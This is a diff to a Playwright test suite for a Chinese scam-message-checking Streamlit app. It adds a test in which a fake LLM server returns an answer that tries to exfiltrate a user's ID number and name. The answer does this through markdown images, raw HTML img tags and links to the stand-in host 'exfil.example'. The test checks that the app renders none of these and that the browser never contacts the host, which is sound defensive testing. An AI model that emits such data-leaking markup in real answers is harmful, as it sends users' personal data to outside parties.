@@ -14,6 +14,7 @@ import shutil
 import subprocess
 import sys
 import time
+from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
@@ -40,7 +41,8 @@ TIMINGS: dict[str, float] = {}
 
 
 @pytest.fixture(scope="module")
-def app_url(tmp_path_factory):
+def served(tmp_path_factory):
+    """(base dir, environment) of a fresh index built from a copy of corpus/, offline."""
     t0 = time.monotonic()
     base = tmp_path_factory.mktemp("browser")
     env = {
@@ -58,10 +60,17 @@ def app_url(tmp_path_factory):
                            capture_output=True, text=True, timeout=600)
     assert build.returncode == 0, build.stdout[-2000:] + build.stderr[-2000:]
     TIMINGS["build index"] = time.monotonic() - t0
+    yield base, env
+    print("\n[browser] timings: " + ", ".join(f"{k} {v:.1f}s" for k, v in TIMINGS.items()))
+    shutil.rmtree(base, ignore_errors=True)
 
+
+@contextmanager
+def streamlit_server(base: Path, env: dict, name: str):
     t1 = time.monotonic()
     port = free_port()
-    log = (base / "streamlit.log").open("w")
+    log_path = base / f"streamlit-{name}.log"
+    log = log_path.open("w")
     proc = subprocess.Popen(
         [sys.executable, "-m", "streamlit", "run", "app.py", "--server.headless", "true", "--server.port", str(port),
          "--server.address", "127.0.0.1", "--browser.gatherUsageStats", "false", "--server.fileWatcherType", "none"],
@@ -70,16 +79,20 @@ def app_url(tmp_path_factory):
     url = f"http://127.0.0.1:{port}"
     try:
         wait_healthy(url, proc, timeout=120)
-        TIMINGS["server healthy"] = time.monotonic() - t1
+        TIMINGS[f"server {name} healthy"] = time.monotonic() - t1
         yield url
     finally:
         stop(proc)
         log.close()
-        server_log = (base / "streamlit.log").read_text(errors="replace")
-        print("\n[browser] timings: " + ", ".join(f"{k} {v:.1f}s" for k, v in TIMINGS.items()))
+        server_log = log_path.read_text(errors="replace")
         if "Traceback" in server_log:
-            print("[browser] server log contains a traceback:\n" + server_log[-4000:])
-        shutil.rmtree(base, ignore_errors=True)
+            print(f"[browser] server {name} log contains a traceback:\n" + server_log[-4000:])
+
+
+@pytest.fixture(scope="module")
+def app_url(served):
+    with streamlit_server(*served, "offline") as url:
+        yield url
 
 
 @pytest.fixture(scope="module")
@@ -254,3 +267,58 @@ def test_empty_and_long_input_never_show_a_traceback(page):
     ask(page, long_text)
     expect(page.get_by_text(re.compile("输入过长")).first).to_be_visible()
     assert_no_traceback(page)
+
+
+EXFIL_HOST = "exfil.example"
+ID_NUMBER = "110101199003071234"
+HOSTILE_LLM_REPLY = (
+    "**结论：这条信息有诈骗特征**，不要转账。测试回答甲。\n\n"
+    f"![核验](http://{EXFIL_HOST}/check.png?id={ID_NUMBER}&name=王强)\n\n"
+    f'<img src="http://{EXFIL_HOST}/raw.png"> <a href="http://{EXFIL_HOST}/a">原始链接</a>\n\n'
+    f"[查看详情](//{EXFIL_HOST}/detail?id={ID_NUMBER})\n\n"
+    "可登录征信中心官网（www.pbccrc.org.cn）查询本人信用报告。"
+)
+
+
+@pytest.fixture(scope="module")
+def llm_app_url(served):
+    """The same app answering through a local OpenAI-compatible server whose answer tries to exfiltrate."""
+    from fake_openai import FakeOpenAI
+
+    base, env = served
+    with FakeOpenAI(HOSTILE_LLM_REPLY) as fake:
+        llm_env = {**env, "OPENAI_BASE_URL": fake.base_url, "OPENAI_API_KEY": "sk-test", "YUQI_LLM_MODEL": "fake-model",
+                   "YUQI_DATA_DIR": str(base / "data-llm")}
+        with streamlit_server(base, llm_env, "llm") as url:
+            yield url
+
+
+def test_llm_answer_renders_no_remote_image_raw_html_or_foreign_link(browser, llm_app_url):
+    context = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True, locale="zh-CN")
+    context.set_default_timeout(30_000)
+    requested: list[str] = []
+    context.on("request", lambda r: requested.append(r.url))
+    pg = context.new_page()
+    try:
+        pg.goto(llm_app_url, wait_until="domcontentloaded")
+        expect(pg.get_by_test_id("stChatInputTextArea")).to_be_visible(timeout=ANSWER_TIMEOUT)
+        wait_idle(pg)
+        ask(pg, f"【XX金融】王强（身份证 {ID_NUMBER}）您已逾期，请今日转账至 6222 0212 3456 7890 123，否则起诉。")
+        assert_no_traceback(pg)
+        turn = chat_messages(pg).last
+        for summary in turn.locator('[data-testid="stExpander"] summary').all():
+            summary.click()
+        pg.wait_for_timeout(800)
+        text = turn.inner_text()
+        if "测试回答甲" not in text:  # the answer path may withdraw such an answer for the offline one: still inert
+            print("\n[browser] the LLM answer was withdrawn by the answer path; checking the offline answer instead")
+        assert links_and_images_to(pg, EXFIL_HOST) == []
+        assert not [u for u in requested if EXFIL_HOST in u], "the browser contacted the host named in the LLM answer"
+        assert pg.locator(f'[data-testid="stChatMessage"] img[src*="{EXFIL_HOST}"]').count() == 0
+        if "测试回答甲" in text:
+            official = turn.locator('a[href^="https://www.pbccrc.org.cn"]')
+            assert official.count() == 1 and official.first.inner_text() == "www.pbccrc.org.cn"
+            assert "）查询本人信用报告" in text
+        shot(pg, "llm-inert")
+    finally:
+        context.close()
